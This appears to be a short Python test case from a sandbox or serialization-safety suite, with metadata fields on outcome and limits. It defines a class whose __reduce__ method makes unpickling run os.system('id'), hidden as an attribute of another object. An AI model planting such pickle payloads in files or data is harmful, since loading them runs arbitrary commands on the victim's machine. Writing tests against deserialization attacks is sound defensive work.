"""Leave an object that runs code when unpickled.

outcome: ran
stopped by: principle
refused: unsupported
limits: processes=2
"""

import os


class R:
    def __reduce__(self):
        return os.system, ("id",)


class Box:
    grad = R()


x = Box()
